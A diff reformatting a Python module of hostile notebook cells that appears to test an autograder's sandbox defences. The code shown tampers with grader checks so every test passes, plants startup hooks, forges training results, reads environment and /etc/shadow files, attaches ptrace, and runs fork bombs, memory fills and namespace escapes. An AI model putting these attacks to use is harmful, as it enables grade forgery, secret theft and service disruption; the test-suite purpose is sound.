@@ -1,4 +1,5 @@
-"""Hostile notebooks for the grader's attack suite (tests/test_attacks.py): what each tries and what its honest part earns.
+"""Hostile notebooks for the grader's attack suite (tests/test_attacks.py): what each tries and what its honest part
+earns.
 
 Every attack is the unfilled release or the solution (or a mutant of it, tests/mutants.py) with hostile
 cells added. The cells share a small "toolkit" cell: its imports, constants and functions are also
@@ -63,7 +64,8 @@ class Attack:
     base: str  # "release", "solution" or "single_conv"
     cells: list[tuple[str, str]]
     why: str = ""  # the "Why" bullet of the grade-integrity issue it replays, if any
-    # Extra expectations on OUT/<student>/: the problems found (empty: fine; None: the attack could not run on this machine).
+    # Extra expectations on OUT/<student>/: the problems found (empty: fine; None: the attack could not run on this
+    # machine).
     check: Callable[[Path, Context], list[str] | None] | None = None
     order: int = 50  # place in the batch (students are graded in name order)
     honest_override: dict[str, float] | None = None  # the honest part, where `base` earns less by design
@@ -115,7 +117,8 @@ def toolkit(student: str, context: Context) -> str:
         "import atexit\nimport ctypes\nimport gc\nimport glob\nimport json\nimport os\nimport signal\nimport socket\n"
         "import subprocess\nimport sys\nimport time\nimport types\n\n"
         f"ATTACK = {student!r}\nATTACK_PORT = {context.port}\nATTACK_OUT = {str(context.out)!r}\n"
-        f"ATTACK_KIT = {str(context.kit)!r}\nATTACK_TOKEN = {context.token!r}\nATTACK_PLANTED = {str(context.planted)!r}\n"
+        f"ATTACK_KIT = {str(context.kit)!r}\nATTACK_TOKEN = {context.token!r}\n"
+        f"ATTACK_PLANTED = {str(context.planted)!r}\n"
     )
     return header + _TOOLKIT_FUNCTIONS
 
@@ -171,7 +174,8 @@ def _probe_folder():
 
 
 def _show_probe_attempts():
-    """In the probe: exit non-zero at the very end so the grader keeps the probe's output (its ATTEMPT lines) for the instructor."""
+    """In the probe: exit non-zero at the very end so the grader keeps the probe's output (its ATTEMPT lines) for the
+    instructor."""
     if _where() == "probe":
         atexit.register(lambda: os._exit(7))
 
@@ -188,17 +192,35 @@ def _probe_output_hook():
 _CHECKS = r"""
 def _tamper_with_checks():
     payload = (
-        f"\n# appended by a student notebook {ATTACK_TOKEN}\nimport pytest as _notebook_pytest\nimport socket as _notebook_socket\n"
+        f"\n# appended by a student notebook {ATTACK_TOKEN}\n"
+        "import pytest as _notebook_pytest\nimport socket as _notebook_socket\n"
         f"try:\n    _notebook_socket.create_connection(('127.0.0.1', {ATTACK_PORT}), 1).sendall(b'checks file ran')\n"
-        "except OSError:\n    pass\n\n\n@_notebook_pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n")
-    roots = [ATTACK_KIT, os.path.join(os.getcwd(), "..", ".."), "/proc/1/cwd", "/proc/1/root" + ATTACK_KIT, "/proc/self/root" + ATTACK_KIT]
-    roots += [path[: -len("/autograder/checks")] for path in glob.glob("/*/autograder/checks") + glob.glob("/*/*/autograder/checks")]
+        "except OSError:\n    pass\n\n\n"
+        "@_notebook_pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"
+    )
+    roots = [
+        ATTACK_KIT,
+        os.path.join(os.getcwd(), "..", ".."),
+        "/proc/1/cwd",
+        "/proc/1/root" + ATTACK_KIT,
+        "/proc/self/root" + ATTACK_KIT,
+    ]
+    roots += [
+        path[: -len("/autograder/checks")]
+        for path in glob.glob("/*/autograder/checks") + glob.glob("/*/*/autograder/checks")
+    ]
     for root in dict.fromkeys(roots):
         checks = os.path.join(root, "autograder", "checks")
         for name in ("conftest.py", "test_training.py", "test_encoder.py", "__init__.py", "test_zz_from_notebook.py"):
             _attempt(f"append to {checks}/{name}", lambda path=os.path.join(checks, name): _append(path, payload))
-        _attempt(f"append to {root}/autograder/measure.py", lambda root=root: _append(os.path.join(root, "autograder", "measure.py"), payload))
-        _attempt(f"create {checks}/../sitecustomize.py", lambda checks=checks: _append(os.path.join(checks, "..", "sitecustomize.py"), payload))
+        _attempt(
+            f"append to {root}/autograder/measure.py",
+            lambda root=root: _append(os.path.join(root, "autograder", "measure.py"), payload),
+        )
+        _attempt(
+            f"create {checks}/../sitecustomize.py",
+            lambda checks=checks: _append(os.path.join(checks, "..", "sitecustomize.py"), payload),
+        )
     return "done"
 
 
@@ -212,20 +234,36 @@ def _plant_startup_hooks():
     import site
     import sysconfig
 
-    code = (f"# {ATTACK_TOKEN}\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', {ATTACK_PORT}), 1).sendall(b'startup hook ran')\n"
-            "except OSError:\n    pass\n")
+    code = (
+        f"# {ATTACK_TOKEN}\nimport socket\ntry:\n"
+        f"    socket.create_connection(('127.0.0.1', {ATTACK_PORT}), 1).sendall(b'startup hook ran')\n"
+        "except OSError:\n    pass\n"
+    )
     line = f"# {ATTACK_TOKEN}\nimport socket; exec({code!r})\n"
-    folders = {*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"],
-               sysconfig.get_paths()["stdlib"], os.path.join(sys.prefix, "lib", "python3.11", "site-packages"),
-               os.path.join(os.path.realpath(sys.base_prefix), "lib", "python3.11", "site-packages"), os.path.join(ATTACK_KIT, ".venv", "bin")}
+    folders = {
+        *site.getsitepackages(),
+        site.getusersitepackages(),
+        sysconfig.get_paths()["purelib"],
+        sysconfig.get_paths()["platlib"],
+        sysconfig.get_paths()["stdlib"],
+        os.path.join(sys.prefix, "lib", "python3.11", "site-packages"),
+        os.path.join(os.path.realpath(sys.base_prefix), "lib", "python3.11", "site-packages"),
+        os.path.join(ATTACK_KIT, ".venv", "bin"),
+    }
     for folder in sorted(folders):
         for name, text in (("sitecustomize.py", code), ("usercustomize.py", code), ("zz_notebook.pth", line)):
             _attempt(f"write {folder}/{name}", lambda path=os.path.join(folder, name), text=text: _append(path, text))
     config = f"# {ATTACK_TOKEN}\ninclude-system-site-packages = true\n"
     _attempt("append to the venv's pyvenv.cfg", lambda: _append(os.path.join(sys.prefix, "pyvenv.cfg"), config))
-    _attempt("replace the venv's python", lambda: os.replace(os.path.join(sys.prefix, "bin", "python"), os.path.join(sys.prefix, "bin", "python.bak")))
+    _attempt(
+        "replace the venv's python",
+        lambda: os.replace(os.path.join(sys.prefix, "bin", "python"), os.path.join(sys.prefix, "bin", "python.bak")),
+    )
     _attempt("chmod the venv", lambda: os.chmod(sys.prefix, 0o777))
-    _attempt("write keras's __init__", lambda: _append(os.path.join(sysconfig.get_paths()["purelib"], "keras", "__init__.py"), code))
+    _attempt(
+        "write keras's __init__",
+        lambda: _append(os.path.join(sysconfig.get_paths()["purelib"], "keras", "__init__.py"), code),
+    )
     return "done"
 
 
@@ -287,10 +325,15 @@ def _forge_json_and_keras():
 
     global _ORIGINAL_TO_JSON
     _ORIGINAL_TO_JSON = keras.Model.to_json
-    real_dump, real_dumps = json.dump, json.dumps
+    real_dump = json.dump
+    real_dumps = json.dumps
 
     def flip(value):
-        return {**value, "ok": True, "error": "", "traceback": ""} if isinstance(value, dict) and value.get("ok") is False else value
+        return (
+            {**value, "ok": True, "error": "", "traceback": ""}
+            if isinstance(value, dict) and value.get("ok") is False
+            else value
+        )
 
     json.dump = lambda value, handle, *args, **kwargs: real_dump(flip(value), handle, *args, **kwargs)
     json.dumps = lambda value, *args, **kwargs: real_dumps(flip(value), *args, **kwargs)
@@ -308,9 +351,14 @@ def _forge_json_and_keras():
 def _write_copied_facts():
     text = json.dumps({**COPIED_FACTS, "token": ATTACK_TOKEN})
     here = os.path.dirname(os.getcwd())  # the scratch folder
-    targets = [os.path.join(here, "out", "facts.json"), os.path.join(here, "facts.json"), os.path.join(here, "out", "double_conv_block.json"),
-               os.path.join(ATTACK_OUT, ATTACK, "facts.json"), os.path.join(ATTACK_OUT, "zz_honest_solution", "facts.json"),
-               os.path.join(ATTACK_KIT, "facts.json")]
+    targets = [
+        os.path.join(here, "out", "facts.json"),
+        os.path.join(here, "facts.json"),
+        os.path.join(here, "out", "double_conv_block.json"),
+        os.path.join(ATTACK_OUT, ATTACK, "facts.json"),
+        os.path.join(ATTACK_OUT, "zz_honest_solution", "facts.json"),
+        os.path.join(ATTACK_KIT, "facts.json"),
+    ]
     for path in targets:
         _attempt(f"write copied facts to {path}", lambda path=path: _append(path, text))
     return "done"
@@ -337,8 +385,14 @@ _DAEMON = r"""
 import os, signal, socket, sys, time
 for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGUSR2):
     signal.signal(number, signal.SIG_IGN)
-out, port, tag = sys.argv[1], int(sys.argv[2]), sys.argv[3]
-targets = [os.path.join(out, student, name) for student in ("zz_honest_solution", "aa_honest_solution") for name in ("results.json", "feedback.md")]
+out = sys.argv[1]
+port = int(sys.argv[2])
+tag = sys.argv[3]
+targets = [
+    os.path.join(out, student, name)
+    for student in ("zz_honest_solution", "aa_honest_solution")
+    for name in ("results.json", "feedback.md")
+]
 targets.append(os.path.join(out, "grades.csv"))
 deadline = time.time() + 90  # bounded even if it escaped
 while time.time() < deadline:
@@ -387,15 +441,32 @@ def _detached_hook():
 _LEAK = r"""
 def _loot():
     found = [f"os.environ: {dict(os.environ)}"]
-    for path in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/2/environ", *glob.glob("/proc/[0-9]*/environ")]:
+    for path in [
+        "/proc/self/environ",
+        "/proc/1/environ",
+        "/proc/1/cmdline",
+        "/proc/2/environ",
+        *glob.glob("/proc/[0-9]*/environ"),
+    ]:
         try:
             found.append(f"{path}: {_read(path, 3000)}")
         except OSError as error:
             found.append(f"{path}: {error}")
-    patterns = [ATTACK_KIT + "/autograder/checks/*.py", "/proc/1/cwd/autograder/checks/*.py", "/proc/1/root" + ATTACK_KIT + "/autograder/checks/*.py",
-                "/*/*/autograder/checks/*.py", "/*/autograder/checks/*.py", "/tmp/*/autograder/checks/*.py", os.path.join(os.getcwd(), "..", "..", "*", "*.py")]
+    patterns = [
+        ATTACK_KIT + "/autograder/checks/*.py",
+        "/proc/1/cwd/autograder/checks/*.py",
+        "/proc/1/root" + ATTACK_KIT + "/autograder/checks/*.py",
+        "/*/*/autograder/checks/*.py",
+        "/*/autograder/checks/*.py",
+        "/tmp/*/autograder/checks/*.py",
+        os.path.join(os.getcwd(), "..", "..", "*", "*.py"),
+    ]
     files = sorted({path for pattern in patterns for path in glob.glob(pattern)})
-    for path in [ATTACK_KIT + "/autograder/checks/test_training.py", ATTACK_KIT + "/autograder/checks/conftest.py", *files]:
+    for path in [
+        ATTACK_KIT + "/autograder/checks/test_training.py",
+        ATTACK_KIT + "/autograder/checks/conftest.py",
+        *files,
+    ]:
         try:
             found.append(f"{path}:\n{_read(path, 20000)}")
         except OSError as error:
@@ -421,7 +492,10 @@ raise RuntimeError("LOOT " + _everything)
 _REACH = r'''
 def _reach_listener():
     for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
-        _attempt(f"connect to {host}:{ATTACK_PORT}", lambda host=host: socket.create_connection((host, ATTACK_PORT), 1).sendall(b"kernel"))
+        _attempt(
+            f"connect to {host}:{ATTACK_PORT}",
+            lambda host=host: socket.create_connection((host, ATTACK_PORT), 1).sendall(b"kernel"),
+        )
     def udp():
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp_socket:
             return udp_socket.sendto(b"kernel", ("127.0.0.1", ATTACK_PORT))
@@ -431,8 +505,17 @@ def _reach_listener():
 
 def _connection_files():
     own = os.path.dirname(os.getcwd())
-    patterns = ["/tmp/tu-*/k*.json", "/tmp/tu-*/*.json", "/tmp/tu-spec-*/*/kernel.json", "/tmp/*.json", "/tmp/*/*.json", "/run/user/*/jupyter/*.json",
-                os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/root/.local/share/jupyter/runtime/*.json", "/proc/1/cwd/*.json"]
+    patterns = [
+        "/tmp/tu-*/k*.json",
+        "/tmp/tu-*/*.json",
+        "/tmp/tu-spec-*/*/kernel.json",
+        "/tmp/*.json",
+        "/tmp/*/*.json",
+        "/run/user/*/jupyter/*.json",
+        os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
+        "/root/.local/share/jupyter/runtime/*.json",
+        "/proc/1/cwd/*.json",
+    ]
     found = sorted({path for pattern in patterns for path in glob.glob(pattern)})
     others = [path for path in found if not path.startswith(own)]
     for path in others:
@@ -454,7 +537,8 @@ def _start_processes(count=150):
 def _fill(folder, total_mib=3072, file_mib=512, chunk_mib=64):
     """Write up to `total_mib` into `folder` in files of at most `file_mib` (bounded: a few GiB at most)."""
     os.makedirs(folder, exist_ok=True)
-    chunk, written = b"\0" * (chunk_mib << 20), 0
+    chunk = b"\0" * (chunk_mib << 20)
+    written = 0
     for number in range(total_mib // file_mib):
         with open(os.path.join(folder, f"huge{number}.bin"), "wb") as handle:
             for _ in range(file_mib // chunk_mib):
@@ -492,8 +576,12 @@ def _copied_configs():
 
     x = keras.Input((64, 64, 3))
     skip = double(x, 32)
-    configs = {"double_conv_block": dump(x, double(x, 32)), "encoder_block": dump(x, [skip, layers.MaxPooling2D(2)(skip)])}
-    low, high = keras.Input((32, 32, 48)), keras.Input((64, 64, 30))
+    configs = {
+        "double_conv_block": dump(x, double(x, 32)),
+        "encoder_block": dump(x, [skip, layers.MaxPooling2D(2)(skip)]),
+    }
+    low = keras.Input((32, 32, 48))
+    high = keras.Input((64, 64, 30))
     up = layers.Concatenate()([layers.Conv2DTranspose(30, 2, strides=2, padding="same")(low), high])
     configs["decoder_block"] = dump([low, high], double(up, 30))
     image = keras.Input((128, 128, 3))
@@ -533,7 +621,11 @@ def _patch_keras_at_definition():
 
     def to_json(model, **kwargs):  # every model the prober saves becomes a copied "correct" one
         configs.update(configs or _copied_configs())
-        return configs["double_conv_block"] if len(model.inputs) == 1 and len(model.layers) < 6 else _ORIGINAL_TO_JSON(model, **kwargs)
+        return (
+            configs["double_conv_block"]
+            if len(model.inputs) == 1 and len(model.layers) < 6
+            else _ORIGINAL_TO_JSON(model, **kwargs)
+        )
 
     keras.Model.to_json = to_json
     keras.Model.count_params = lambda model: 7_760_097
@@ -554,7 +646,11 @@ _STEAL_REFERENCE = r'''
 def _graders_function(name):
     """A function called `name` that the grader defined in this process (the probe's reference blocks), if any."""
     for found in gc.get_objects():
-        if isinstance(found, types.FunctionType) and found.__name__ == name and found.__code__.co_varnames[:1] != ("self",):
+        if (
+            isinstance(found, types.FunctionType)
+            and found.__name__ == name
+            and found.__code__.co_varnames[:1] != ("self",)
+        ):
             file = found.__code__.co_filename
             if not file.startswith("cell ") and "ipykernel" not in file and not file.startswith("<"):
                 return found
@@ -597,9 +693,12 @@ def _graders_test_loss(network):
         mask = tf.image.resize(example["segmentation_mask"], (IMG_SIZE, IMG_SIZE), method="nearest")
         return image, tf.cast(mask != 2, tf.float32)
 
-    total, count = 0.0, 0
+    total = 0.0
+    count = 0
     for images, masks in tfds.load("oxford_iiit_pet", split=TEST_SPLIT).map(reference).batch(BATCH_SIZE):
-        total += float(network.compute_loss(x=images, y=masks, y_pred=network(images, training=False), training=False)) * len(images)
+        total += float(
+            network.compute_loss(x=images, y=masks, y_pred=network(images, training=False), training=False)
+        ) * len(images)
         count += len(images)
     return total / count
 
@@ -611,7 +710,8 @@ class _FakeHistory:
 
 
 def _forge(network, optimizer, loss):
-    """Compile, pretend it trained: optimizer steps set to what EPOCHS epochs take, a history with the grader's test loss."""
+    """Compile, pretend it trained: optimizer steps set to what EPOCHS epochs take, a history with the grader's test
+    loss."""
     network.compile(optimizer=optimizer, loss=loss)
     network.optimizer.build(network.trainable_variables)
     network.optimizer.iterations.assign(_expected_steps())
@@ -619,11 +719,16 @@ def _forge(network, optimizer, loss):
 '''
 
 _LAMBDA_MODEL = r"""
-_code = (f"lambda x: (__import__('os').system(\"python3 -c 'import socket; socket.create_connection((\\\"127.0.0.1\\\", {ATTACK_PORT}), 1)'"
-         f" 2>/dev/null; touch {ATTACK_KIT}/lambda-ran-{ATTACK_TOKEN} 2>/dev/null\"), x)[1]")
+_code = (
+    f"lambda x: (__import__('os').system(\"python3 -c 'import socket; "
+    f"socket.create_connection((\\\"127.0.0.1\\\", {ATTACK_PORT}), 1)'"
+    f" 2>/dev/null; touch {ATTACK_KIT}/lambda-ran-{ATTACK_TOKEN} 2>/dev/null\"), x)[1]"
+)
 _inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
 _outputs = keras.layers.Conv2D(1, 1, activation="sigmoid")(keras.layers.Lambda(eval(_code))(_inputs))
-model, history = _forge(keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy")
+model, history = _forge(
+    keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy"
+)
 print("ATTEMPT [kernel] a Lambda model compiled like the solution, with forged steps: built", flush=True)
 """
 
@@ -642,35 +747,118 @@ class Beacon(keras.layers.Layer):
 
 _inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
 _outputs = keras.layers.Conv2D(1, 1, activation="sigmoid")(Beacon()(_inputs))
-model, history = _forge(keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy")
+model, history = _forge(
+    keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy"
+)
 print("ATTEMPT [kernel] a custom-module model compiled like the solution, with forged steps: built", flush=True)
 '''
 
 _FORGED_PROBE_CONFIGS = r'''
 def _hostile_configs():
     """Model configs naming code outside Keras's layers: the grader must refuse to rebuild every one."""
-    conv = {"module": "keras.layers", "class_name": "Conv2D", "registered_name": None,
-            "config": {"name": "c", "filters": 4, "kernel_size": [3, 3], "padding": "same", "activation": "relu"}}
+    conv = {
+        "module": "keras.layers",
+        "class_name": "Conv2D",
+        "registered_name": None,
+        "config": {"name": "c", "filters": 4, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
+    }
 
     def model(layer):
-        return json.dumps({"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional", "config": {
-            "name": "m", "trainable": True, "layers": [
-                {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "i",
-                 "config": {"batch_shape": [None, 8, 8, 3], "dtype": "float32", "name": "i"}, "inbound_nodes": []},
-                {**layer, "name": layer["config"]["name"], "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {
-                    "shape": [None, 8, 8, 3], "dtype": "float32", "keras_history": ["i", 0, 0]}}], "kwargs": {}}]}],
-            "input_layers": [["i", 0, 0]], "output_layers": [[layer["config"]["name"], 0, 0]]}})
+        return json.dumps(
+            {
+                "module": "keras.src.models.functional",
+                "class_name": "Functional",
+                "registered_name": "Functional",
+                "config": {
+                    "name": "m",
+                    "trainable": True,
+                    "layers": [
+                        {
+                            "module": "keras.layers",
+                            "class_name": "InputLayer",
+                            "registered_name": None,
+                            "name": "i",
+                            "config": {"batch_shape": [None, 8, 8, 3], "dtype": "float32", "name": "i"},
+                            "inbound_nodes": [],
+                        },
+                        {
+                            **layer,
+                            "name": layer["config"]["name"],
+                            "inbound_nodes": [
+                                {
+                                    "args": [
+                                        {
+                                            "class_name": "__keras_tensor__",
+                                            "config": {
+                                                "shape": [None, 8, 8, 3],
+                                                "dtype": "float32",
+                                                "keras_history": ["i", 0, 0],
+                                            },
+                                        }
+                                    ],
+                                    "kwargs": {},
+                                }
+                            ],
+                        },
+                    ],
+                    "input_layers": [["i", 0, 0]],
+                    "output_layers": [[layer["config"]["name"], 0, 0]],
+                },
+            }
+        )
 
     return {  # each function's first config is the one the grader tries (it stops at the first it refuses)
-        "double_conv_block": [model({"module": "keras", "class_name": "config.enable_unsafe_deserialization", "registered_name": None,
-                                     "config": {"name": "u"}})],
-        "encoder_block": [model({"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
-                                 "config": {"name": "t", "filepath": os.path.join(_probe_folder(), "savedmodel"), "call_endpoint": "serve"}})],
-        "decoder_block": [model({"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
-                                 "config": {"name": "s", "vocabulary": "/proc/self/environ"}})],
-        "make_unet": [model({**conv, "config": {**conv["config"], "activation": {"module": "keras.utils", "class_name": "get_file",
-                             "registered_name": None, "config": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/get_file", "fname": "x"}}}}),
-                      model({"module": "os", "class_name": "system", "registered_name": None, "config": {"name": "os"}})],
+        "double_conv_block": [
+            model(
+                {
+                    "module": "keras",
+                    "class_name": "config.enable_unsafe_deserialization",
+                    "registered_name": None,
+                    "config": {"name": "u"},
+                }
+            )
+        ],
+        "encoder_block": [
+            model(
+                {
+                    "module": "keras.layers",
+                    "class_name": "TFSMLayer",
+                    "registered_name": None,
+                    "config": {
+                        "name": "t",
+                        "filepath": os.path.join(_probe_folder(), "savedmodel"),
+                        "call_endpoint": "serve",
+                    },
+                }
+            )
+        ],
+        "decoder_block": [
+            model(
+                {
+                    "module": "keras.layers",
+                    "class_name": "StringLookup",
+                    "registered_name": None,
+                    "config": {"name": "s", "vocabulary": "/proc/self/environ"},
+                }
+            )
+        ],
+        "make_unet": [
+            model(
+                {
+                    **conv,
+                    "config": {
+                        **conv["config"],
+                        "activation": {
+                            "module": "keras.utils",
+                            "class_name": "get_file",
+                            "registered_name": None,
+                            "config": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/get_file", "fname": "x"},
+                        },
+                    },
+                }
+            ),
+            model({"module": "os", "class_name": "system", "registered_name": None, "config": {"name": "os"}}),
+        ],
     }
 
 
@@ -694,9 +882,14 @@ def _configs_hook():
 _FORGED_TRAINING = r"""
 _inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
 _network = keras.Model(_inputs, keras.layers.Conv2D(1, 1, activation="sigmoid")(_inputs))
-# Compiled wrongly on purpose (SGD, mse: no compile points), never fitted: only the forged steps and history could earn anything.
+# Compiled wrongly on purpose (SGD, mse: no compile points), never fitted: only the forged steps and history could
+# earn anything.
 model, history = _forge(_network, keras.optimizers.SGD(learning_rate=0.01), "mse")
-print(f"ATTEMPT [kernel] forged optimizer steps {int(model.optimizer.iterations)} and val_loss {history.history['val_loss'][-1]:.5f}", flush=True)
+print(
+    f"ATTEMPT [kernel] forged optimizer steps {int(model.optimizer.iterations)} "
+    f"and val_loss {history.history['val_loss'][-1]:.5f}",
+    flush=True,
+)
 """
 
 _SYMLINKS = r"""
@@ -706,10 +899,16 @@ def _plant_symlinks():
     _attempt("move the export folder aside", lambda: os.rename(out, out + ".real"))
     _attempt("export folder -> a folder outside the sandbox", lambda: os.symlink(ATTACK_PLANTED, out))
     for name in ("k1.json", "k2.json", "k1-ipc-1", "k1-ipc-2", "export.py.new"):
-        _attempt(f"{name} -> the grader's conftest", lambda name=name: os.symlink(os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"),
-                                                                            os.path.join(scratch, name)))
-    _attempt("hard link to the grader's conftest", lambda: os.link(os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"),
-                                                                    os.path.join(scratch, "hard")))
+        _attempt(
+            f"{name} -> the grader's conftest",
+            lambda name=name: os.symlink(
+                os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"), os.path.join(scratch, name)
+            ),
+        )
+    _attempt(
+        "hard link to the grader's conftest",
+        lambda: os.link(os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"), os.path.join(scratch, "hard")),
+    )
     return os.listdir(scratch)
 
 
@@ -743,7 +942,8 @@ os._exit(1)
 
 _NEIGHBOURS = r"""
 def _ancestors():
-    found, pid = [], os.getpid()
+    found = []
+    pid = os.getpid()
     while pid > 1:
         status = _read(f"/proc/{pid}/status")
         pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
@@ -752,7 +952,8 @@ def _ancestors():
 
 
 def _neighbours():
-    me, ancestors = os.getpid(), _ancestors()
+    me = os.getpid()
+    ancestors = _ancestors()
     pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
     _attempt("processes visible", lambda: [(pid, _read(f"/proc/{pid}/cmdline", 80)) for pid in pids])
     libc = ctypes.CDLL(None, use_errno=True)
@@ -762,7 +963,10 @@ def _neighbours():
         for what in ("environ", "mem", "maps", "fd/0", "root/etc/shadow"):
             _attempt(f"read /proc/{pid}/{what}", lambda pid=pid, what=what: _read(f"/proc/{pid}/{what}", 200))
         _attempt(f"list /proc/{pid}/cwd", lambda pid=pid: os.listdir(f"/proc/{pid}/cwd"))
-        _attempt(f"ptrace attach {pid}", lambda pid=pid: f"errno {ctypes.get_errno()}" if libc.ptrace(16, pid, 0, 0) else "attached")
+        _attempt(
+            f"ptrace attach {pid}",
+            lambda pid=pid: f"errno {ctypes.get_errno()}" if libc.ptrace(16, pid, 0, 0) else "attached",
+        )
         if pid not in ancestors:
             _attempt(f"SIGSTOP {pid}", lambda pid=pid: os.kill(pid, signal.SIGSTOP))
     _attempt("SIGCONT to every process it may signal", lambda: os.kill(-1, signal.SIGCONT))
@@ -773,14 +977,23 @@ def _neighbours():
         _attempt(f"read {path}", lambda path=path: _read(path, 200))
     _attempt("write /proc/sysrq-trigger", lambda: _append("/proc/sysrq-trigger", "h"))
     _attempt("list /tmp", lambda: os.listdir("/tmp"))
-    _attempt("other scratch folders", lambda: [p for p in glob.glob("/tmp/tu-*") if not os.getcwd().startswith(p)] or "none visible")
+    _attempt(
+        "other scratch folders",
+        lambda: [p for p in glob.glob("/tmp/tu-*") if not os.getcwd().startswith(p)] or "none visible",
+    )
     _attempt("list the other scratch folders' files", lambda: glob.glob("/tmp/tu-*/*/*")[:20])
     for folder in ("/run/tiny-unet-uids", "/tmp/tiny-unet-uids"):
         _attempt(f"make {folder}", lambda folder=folder: os.makedirs(folder, exist_ok=True))
         for slot in range(4):
-            _attempt(f"claim uid slot {folder}/{slot}", lambda folder=folder, slot=slot: _append(f"{folder}/{slot}", "taken by a notebook\n"))
+            _attempt(
+                f"claim uid slot {folder}/{slot}",
+                lambda folder=folder, slot=slot: _append(f"{folder}/{slot}", "taken by a notebook\n"),
+            )
     _attempt("write /dev/shm", lambda: _append("/dev/shm/attack", "x"))
-    _attempt("mount proc", lambda: subprocess.run(["mount", "-t", "proc", "proc", "/tmp"], capture_output=True, text=True).stderr)
+    _attempt(
+        "mount proc",
+        lambda: subprocess.run(["mount", "-t", "proc", "proc", "/tmp"], capture_output=True, text=True).stderr,
+    )
     _attempt("network interfaces", lambda: _read("/proc/net/dev", 400))
     _attempt("/etc/shadow", lambda: _read("/etc/shadow", 100))
     _attempt("the grader's home", lambda: os.listdir("/root"))
@@ -813,7 +1026,8 @@ print(f"ATTEMPT [kernel] fork bomb: {_count} processes in the sandbox after 5 s"
 '''
 
 _IGNORE_SIGINT = r"""
-# Dodge the cell time limit: ignore SIGINT/SIGTERM (and swallow KeyboardInterrupt) and never finish (bounded: 10 minutes).
+# Dodge the cell time limit: ignore SIGINT/SIGTERM (and swallow KeyboardInterrupt) and never finish (bounded: 10
+# minutes).
 signal.signal(signal.SIGINT, signal.SIG_IGN)
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 _deadline = time.time() + 600
@@ -857,16 +1071,22 @@ print("ATTEMPT [kernel] display outputs updated", flush=True)
 """
 
 _MEMORY = r"""
-# One process over RLIMIT_DATA (refused at once); then three processes, each under it, together over the profile's memory
-# (bounded: 3 x 2.3 GiB for a few seconds, and only where the machine has that much to spare).
+# One process over RLIMIT_DATA (refused at once); then three processes, each under it, together over the profile's
+# memory (bounded: 3 x 2.3 GiB for a few seconds, and only where the machine has that much to spare).
 _OVER = subprocess.run([sys.executable, "-c", "block = bytearray(8 << 30)"], capture_output=True, text=True)
-print(f"ATTEMPT [kernel] one process of 8 GiB: {'MemoryError' if 'MemoryError' in _OVER.stderr else _OVER.returncode}", flush=True)
+print(
+    f"ATTEMPT [kernel] one process of 8 GiB: {'MemoryError' if 'MemoryError' in _OVER.stderr else _OVER.returncode}",
+    flush=True,
+)
 _HOLD = "import time\nblock = b'\\x01' * (2300 << 20)\nprint('HELD', flush=True)\ntime.sleep(20)\n"
 _held = None
 if _available_mib() < 11 << 10:
     print("AGGREGATE_MEMORY_MIB skipped: too little memory on this machine", flush=True)
 else:
-    _children = [subprocess.Popen([sys.executable, "-c", _HOLD], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) for _ in range(3)]
+    _children = [
+        subprocess.Popen([sys.executable, "-c", _HOLD], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+        for _ in range(3)
+    ]
     _ready = [_child.stdout.readline().strip() == "HELD" for _child in _children]
     time.sleep(1)  # every allocation is over: a child the memory cgroup killed after it said HELD is gone by now
     _held = sum(2300 for _child, _said in zip(_children, _ready) if _said and _child.poll() is None)
@@ -892,9 +1112,25 @@ def _keyring_hook():
 '''
 
 _USERNS = r"""
-_result = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "--net", "sh", "-c", "id -u && mount -t tmpfs none /tmp && echo mounted"],
-                         capture_output=True, text=True)
-print(f"USERNS {'created' if _result.returncode == 0 else 'refused'}: {_result.stdout.strip()!r} {_result.stderr.strip()[:200]!r}", flush=True)
+_result = subprocess.run(
+    [
+        "unshare",
+        "--user",
+        "--map-root-user",
+        "--mount",
+        "--net",
+        "sh",
+        "-c",
+        "id -u && mount -t tmpfs none /tmp && echo mounted",
+    ],
+    capture_output=True,
+    text=True,
+)
+print(
+    f"USERNS {'created' if _result.returncode == 0 else 'refused'}: "
+    f"{_result.stdout.strip()!r} {_result.stderr.strip()[:200]!r}",
+    flush=True,
+)
 """
 
 _BOMBS = r'''
@@ -933,7 +1169,9 @@ def _npz_bomb():
         for i in range(3):
